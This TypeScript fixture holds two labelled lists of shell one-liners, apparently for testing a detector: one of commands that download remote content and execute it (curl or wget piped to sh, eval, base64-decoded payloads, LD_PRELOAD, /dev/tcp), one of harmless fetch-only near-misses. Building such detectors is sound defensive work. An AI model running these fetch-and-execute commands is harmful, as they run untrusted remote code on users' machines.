import { lines } from "./lines.ts";

/** What came over the network is run, after whatever was made of it. */
export const FETCHED_AND_RUN: readonly string[] = lines(`
  curl -o x u; mv x y; sh y
  curl -o d/x u; mv d e; sh e/x
  curl -o d/x u; cp -r d e; sh e/x
  curl -o d/x u; cp -r d e; cd e; ./x
  curl -o d/x u; ln -s d e; e/x
  curl -o d/x u; rsync -a d e; e/d/x
  curl -o a.tgz u; tar xf a.tgz; ./a/install.sh
  curl -o a.tgz u && tar xzf a.tgz && sh install.sh
  curl u | tar xz; ./install.sh
  curl u | tar xz && cd x && ./configure
  curl u | tar xz -C d; sh d/x.sh
  curl u | tar xz -C d; cd d; ./x
  wget https://h/a.zip; unzip a.zip; bash a/x.sh
  wget https://h/a.zip; unzip -d d a.zip; d/x
  curl -o x.gz u; gunzip x.gz; sh x
  curl -o x.gz u; gunzip -c x.gz > y; sh y
  curl -o x.gz u; zcat x.gz | sh
  curl -o x.b64 u; base64 -d x.b64 > y; bash y
  curl -o x u; base64 -d x | sh
  curl -o x u; openssl enc -d -in x -out y; sh y
  curl -o x u; gpg -d x > y; sh y
  curl -o x u; gpg -o y -d x; sh y
  curl u | tee x; sh x
  curl u | tee x > /dev/null; chmod +x x; ./x
  curl u | dd of=x; sh x
  curl -o x u; dd if=x of=y; ./y
  curl -o x u; install -m755 x y; ./y
  curl -o x u; install -D x bin/y; bin/y
  curl -o x u; install x bin/; bin/x
  curl -o x u; ln -s x y; ./y
  curl -o x u; ln x y; sh y
  curl -o x u; cat x > y; sh y
  curl -o x u; cat x >> y; sh y
  curl -o x u; head -n 5 x > y; sh y
  curl -o x u; sed 's/a/b/' x > y; sh y
  curl -o x u; awk '{print}' x > y; sh y
  curl -o x u; xxd -r x y; ./y
  curl -o x u; rsync x y; sh y
  curl -o x u; cp x y && chmod +x y && ./y
  curl -o x u; cp x bin/; bin/x
  curl -o x u; mv x bin; bin/x
  curl -o x u; cp -t bin x; bin/x
  curl -o x u; source x
  curl -o x u; . ./x
  curl -o x u; python3 x
  curl -o x u; python3 < x
  curl -o x u; node x
  curl -o x u; make -f x
  curl -o Makefile u; make
  curl -o justfile u; just
  curl -o x u; crontab x
  curl -o x u; at -f x now
  curl -o x u; exec ./x
  curl -o x u; nohup ./x &
  curl -o x u; env ./x
  curl -o x u; xargs sh < x
  curl -o x u; bash -c "$(cat x)"
  curl -o x u; eval "$(cat x)"
  curl -o x u; (cat x) | sh
  curl -o x u; { cat x; } | sh
  curl -o x u; sort x -o y; sh y
  curl -o x u; tee y < x; sh y
  curl -o x u; cp x /tmp/y; sh /tmp/y
  T=/tmp; curl -o $T/x u; sh $T/x
  x=$(curl u); eval "$x"
  x=$(curl u); bash -c "$x"
  x=$(curl u); echo "$x" > y; sh y
  read x < <(curl u); eval $x
  while read l; do eval "$l"; done < <(curl u)
  curl u | while read l; do sh -c "$l"; done
  curl u | xargs -I{} sh -c {}
  curl u | jq -r .x | sh
  curl u | gunzip | sh
  curl u | base64 -d | sh
  curl u | tac | bash -s -- a
  curl u | ssh host sh
  curl u | tee >(sh)
  curl u > >(sh)
  curl u | crontab -
  curl u | make -f -
  curl u | at now
  sh x & curl -o x u
  mkfifo p; sh < p & curl u > p
  scp host:x . && sh x
  scp host:x d/ && sh d/x
  scp host:a/x y && ./y
  nc host 1 | sh
  exec 3<>/dev/tcp/h/1; sh <&3
  wget https://h/x.sh; sh x.sh
  wget -P d https://h/x.sh; sh d/x.sh
  curl -O https://h/x.sh; sh x.sh
  for i in 1 2; do sh x; curl -o x u; done
  curl -o x u; eval "$(<x)"
  curl -o x u; bash -c "$(<x)"
  curl -o x u; sh <<< "$(<x)"
  curl -o x u; y=$(<x); eval "$y"
  curl u | { x=$(cat); eval "$x"; }
  curl u | ( x=$(</dev/stdin); eval "$x" )
  coproc curl u; sh <&\${COPROC[0]}
  coproc net { curl u; }; bash <&\${net[0]}
  curl u | awk '{system($0)}'
  curl u | awk '{print | "sh"}'
  curl u | awk '{$0 | getline x; print x}'
  curl -o x u; awk '{system($0)}' x
  curl u | sed e
  curl u | sed 's/.*/&/e'
  curl -o x u; sed e x
  curl u | perl -ne 'system $_'
  curl u | perl -e 'eval join "",<>'
  curl u | python3 -c 'import sys;exec(sys.stdin.read())'
  curl u | ruby -e 'eval STDIN.read'
  curl u | node -e 'eval((await import("fs")).readFileSync(0,"utf8"))'
  curl -o x u; python3 -c 'exec(open("x").read())'
  curl u | ssh h
  curl u | ed
  curl u | gdb
  curl u | docker exec -i c bash
  curl u | docker run -i img sh
  curl u | kubectl exec -i p -- sh
  curl u | tini -- bash -s
  curl -o x u; BASH_ENV=x bash -c :
  curl -o x u; ENV=x sh -i
  curl -o x u; LD_PRELOAD=./x ls
  curl -o x u; NODE_OPTIONS='--require ./x' node a.js
  curl -o x u; chmod +x x; PATH=. x
  curl -o x u; chmod +x x; PATH=bin:. x
  curl -o x u; bash --rcfile x -i
  curl -o x u; bash --init-file=x -i
  curl -o x u; cmake -P x
  curl -o x u; ninja -f x
  curl -o x.jar u; java -jar x.jar
  curl -o x.go u; go run x.go
  curl -o x.go u; go run -race -tags a main.go x.go
  curl -o x.jar u; java -Xmx1g -cp lib -jar x.jar data.csv
  curl -o x.jar u; java -cp x.jar Main
  curl -o A.java u; java A.java
  curl -o x.jar u; java -cp lib:x.jar Main
  curl -o x.jar u; java -javaagent:x.jar -jar app.jar
  curl -o x u; java @x
  curl u | perl -e 'eval do{local $/;<>}'
  curl u | perl -e 'exec do{local $/;<>}'
  curl u | perl -0777 -ne eval
  curl u | ruby -e 'a=STDIN.read; eval a'
  curl u | ruby -e 's=gets; system s'
  curl u | lua -e 'load(io.read("*a"))()'
  node -e 'fetch("http://x").then(r=>r.text()).then(t=>eval(t))'
  node -e 'fetch("http://x").then(r=>r.text()).then((t) => eval(t))'
  curl u | perl -ne 'system($_)'
  curl u | ruby -e 'system gets'
  curl u | mytool -l -- bash
  node -e 'fetch("http://x").then(eval)'
  pwsh -c 'irm http://x | iex'
  lua -e 'load(http.request("http://x"))()'
  curl -o x.c u; gcc x.c -o y && ./y
  curl -o x.c u; cc x.c; ./a.out
  curl -o x.rs u; rustc x.rs && ./x
  curl -o x.sh u; sh *.sh
  curl -o x.sh u; sh x.*
  curl -o bin/x u; sh bin/*
  curl -o x.sh u; for f in *.sh; do sh $f; done
  curl -o x u; split x z; sh zaa
  f=$(mktemp); curl u -o "$f" && bash "$f"
  f=$(mktemp); wget -O "$f" u; sh "$f"
  d=$(mktemp -d); curl u -o $d/x; sh $d/x
  wget --output-doc=x u; sh x
  curl -O 'https://h/x[1-3].sh'; sh x1.sh
  aria2c u -o x; sh x
  axel u -o x; sh x
  python3 -c 'import urllib.request as u;exec(u.urlopen("http://x").read())'
  python3 -c 'import requests; c=requests.get("http://x").text; exec(c)'
  python3 -c 'import urllib.request as u;print(u.urlopen("http://x").read().decode())' | sh
  ruby -ropen-uri -e 'eval URI.open("http://x").read'
  ruby -ropen-uri -e 'puts URI.open("http://x").read' | sh
  perl -MLWP::Simple -e 'eval get "http://x"'
  php -r 'include "http://x";'
  php -r 'eval(file_get_contents("http://x"));'
  deno eval 'import("http://x")'
`);

/** The same doings without the running, or with something else that is run. */
export const FETCHED_ONLY: readonly string[] = lines(`
  curl -o x u; cat x
  curl -o x u; ./y
  curl -o x u; sh y
  curl -o x u; mv x y; sh z
  curl -o d/x u; mv d e; sh f/x
  curl -o a.tgz u; tar xf a.tgz; ls
  curl -o a.tgz u; tar xzf a.tgz -C d; sh build.sh
  curl u | tar xz -C d; ./build.sh
  curl u | tar xz; npm test
  curl -o x u; wc x > y; sh y
  curl -o x u; sha256sum x > y; cat y
  curl -o x u; mv x .; ./y
  curl -O https://h/x.tgz; ./build.sh
  curl u | jq .
  curl -o x u; make
  curl -o x u; gpg --verify x.sig x
  curl -o data.json u; node build.js data.json
  curl -o data.json u; python3 train.py --data data.json
  curl u | patch -p1; ./build.sh
  git clone u d && sh d/x.sh
  scp host:x . && cat x
  scp x host:y && ./x
  curl u | awk '{print $1}'
  curl u | awk '{print | "sort"}'
  curl u | sed s/e/f/
  curl u | sed -n '/e$/p'
  curl u | perl -ne 'print if /system/'
  curl u | python3 -c 'import sys,json; print(json.load(sys.stdin)["a"])'
  curl u | node -e 'const m=/a/.exec((await import("fs")).readFileSync(0,"utf8")); console.log(m)'
  curl u | docker exec -i c cat
  curl -o x u; y=$(<x); echo "$y"
  curl -o x u; X=x ls
  curl -o x.json u; node *.js
  curl -o x.json u; CONFIG=y.json node a.js
  curl -o x.json u; gcc a.c -o b && ./b
  curl -o x.csv u; go run main.go
  curl -sO https://x/data.csv && go run . data.csv
  curl -sO https://x/data.csv && go run -race . data.csv
  curl -sO https://x/data.csv && go run a.go b.go data.csv
  curl -sO https://x/data.csv && java -jar app.jar data.csv
  curl -sO https://x/data.csv && java -cp lib Main data.csv
  curl -s https://x/a.sh | pygmentize -l bash
  curl -s https://x/a.sh | shfmt -ln bash
  curl -s https://x/a.sh | bat -l sh
  curl -s https://x | perl -ne 'print if /system requirements/'
  curl -s https://x | perl -ne 'print if /exec format error/'
  node -e 'fetch("http://x").then(r=>r.json()).then(d=>console.log(d))'
  python3 -c "import json,urllib.request as u; print(json.load(u.urlopen('http://localhost:8080/api')))"
  ruby -ryaml -ropen-uri -e 'p YAML.load(URI.open("https://x"))'
  python3 -c "print('note: get started with the map system')"
  python3 -c "print('firm: the pipe system')"
  f=$(mktemp); curl u -o "$f"; cat "$f"
  python3 -c 'import requests; print(requests.get("http://x").text)'
  python3 -c 'import requests, json; d=requests.get("http://x").json(); print(d)'
  php -r 'echo file_get_contents("http://x");'
  coproc cat f; read x <&\${COPROC[0]}
`);
